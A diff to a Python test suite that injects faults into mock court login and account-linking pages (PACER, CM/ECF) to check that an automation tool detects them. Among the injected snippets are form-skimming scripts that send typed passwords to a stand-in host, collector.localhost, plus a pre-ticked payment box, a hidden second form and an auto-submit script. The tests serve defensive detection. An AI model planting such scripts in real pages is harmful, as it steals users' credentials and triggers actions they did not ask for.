@@ -35,6 +35,15 @@ def replace_on_page(requests: Requests, text: str, becomes: str) -> Fault:
     return Fault(on=requests, replace=(text, becomes))
 
 
+def when_read(script: str) -> str:
+    """Return a script that runs another one when the rows of the page are read for the first time."""
+    return (
+        "<script>const ask = document.querySelectorAll.bind(document); let isRead = false;"
+        "document.querySelectorAll = css => { if (!isRead && css.includes('tr:not(:has(tr))')) {"
+        f"isRead = true; {script}; }} return ask(css); }};</script>"
+    )
+
+
 LOG_OUT_ENTRY = (
     '<li class="yuimenubaritem" data-name="Log Out">'
     '<a class="yuimenubaritemlabel" href="/cgi-bin/login.pl?logout">Log Out</a></li>'
@@ -147,6 +156,43 @@ CHANGES = {
         "4",
         "link_account submit: nothing was typed; the court's file says http://ecf.ctd.localhost:",
     ),
+    "a script of the login sends what is typed elsewhere": Change(
+        replace_on_page(
+            PACER_LOGIN,
+            "</body>",
+            "<script>PrimeFaces.ab = form => { form.action = 'http://collector.localhost:9/take';"
+            " form.submit(); }</script></body>",
+        ),
+        "2",
+        "pacer_login.log_in: after a secret was typed, the page would have sent what was typed to"
+        " http://collector.localhost:9, which is not the court's; the browser blocked it",
+    ),
+    "a script of the link form copies what is typed elsewhere": Change(
+        replace_on_page(
+            LINK_FORM,
+            'type="password"',
+            'type="password" oninput="navigator.sendBeacon(\'http://collector.localhost:9/\', this.value)"',
+        ),
+        "4",
+        "link_account.submit: after a secret was typed, the page would have sent what was typed to"
+        " http://collector.localhost:9, which is not the court's; the browser blocked it",
+    ),
+    "the link form would send the password in an address": Change(
+        replace_on_page(LINK_FORM, 'method="POST"', 'method="GET"'),
+        "4",
+        "link_account submit: nothing was typed; the form with the password sends it in the address of a"
+        " request (method GET)",
+    ),
+    "the link form would send the password as plain text": Change(
+        replace_on_page(LINK_FORM, "multipart/form-data", "text/plain"),
+        "4",
+        "link_account submit: nothing was typed; the form with the password sends it as text/plain",
+    ),
+    "a field of the link form is too short": Change(
+        replace_on_page(LINK_FORM, 'maxlength="50"', 'maxlength="4"'),
+        "4",
+        'link_account.submit was not done, and nothing was sent: the field "CM/ECF login:" takes at most 4',
+    ),
     "two links with the same words lead to different places": Change(
         replace_on_page(
             WEBSITE_HOME,
@@ -254,6 +300,26 @@ CHANGES = {
         "4",
         "link_account: the page leaves by itself, which is not documented: after 5;url=/",
     ),
+    "the confirmation has a box that is ticked already": Change(
+        replace_on_page(LINK_FORM_SENT, "</form>", '<input type="checkbox" name="pay" checked> </form>'),
+        "permanent",
+        "link_confirmation has a field to fill in (checkbox), which is not documented",
+    ),
+    "the confirmation has a second form": Change(
+        replace_on_page(
+            LINK_FORM_SENT,
+            "</form>",
+            '</form><form method="post" action="/cgi-bin/LinkAccountConfirm.pl?9">'
+            '<input type="hidden" name="proposal" value="other"></form>',
+        ),
+        "permanent",
+        "link_confirmation has two forms that are sent to /cgi-bin/LinkAccountConfirm.pl, which is not",
+    ),
+    "the court links the accounts without being asked": Change(
+        replace_on_page(LINK_FORM_SENT, "</form>", "</form><script>document.forms[0].submit()</script>"),
+        "4",
+        "so an effect took place that was not asked for",
+    ),
     "the login is that of another court": Change(
         replace_on_page(CMECF_LOGIN, "appurl=http%3A%2F%2Fecf.ctd", "appurl=http%3A%2F%2Fecf.other"),
         "1",
@@ -272,6 +338,11 @@ QUICK = {
     "the court alerts its users",
     "what is typed at the login would be sent elsewhere",
     "a button of the link form would send it elsewhere",
+    "a script of the login sends what is typed elsewhere",
+    "a script of the link form copies what is typed elsewhere",
+    "the link form would send the password in an address",
+    "the confirmation has a box that is ticked already",
+    "the court links the accounts without being asked",
     "two links with the same words lead to different places",
     "the link leads to another host",
     "the court opens another window",
@@ -341,3 +412,25 @@ def test_a_changed_court_fails_the_step_that_documents_the_change(
     assert change.message in failed["message"]
     assert change.message.split("; ")[0] in " ".join(run.output.split())
     assert (runner.folder / "out" / "report.html").is_file()
+
+
+LEAVING = {
+    "location = '/cgi-bin/iquery.pl'": "it went to http://ecf.ctd.localhost:",
+    "document.forms[0].submit()": "shown: link_success; so an effect took place that was not asked for",
+}
+
+
+@pytest.mark.parametrize("script", LEAVING)
+def test_a_page_that_leaves_by_itself_is_said_to_have_done_so(
+    script: str, stage: FaultyStage, runner: FlowRunner
+) -> None:
+    stage.fail(replace_on_page(LINK_FORM_SENT, "</form>", "</form>" + when_read(script)))
+    runner.run(SHORT_LIMITS)
+    failed = read_failure(runner.folder)
+    # Two steps document the confirmation: the browser reports what it does during one of them.
+    assert failed["step"] in {"permanent", "5"}
+    assert failed["outcome"] == "DRIFT"
+    assert failed["message"].startswith(
+        "link_confirmation: the page leaves by itself, which is not documented: it went to"
+    )
+    assert LEAVING[script] in failed["message"]
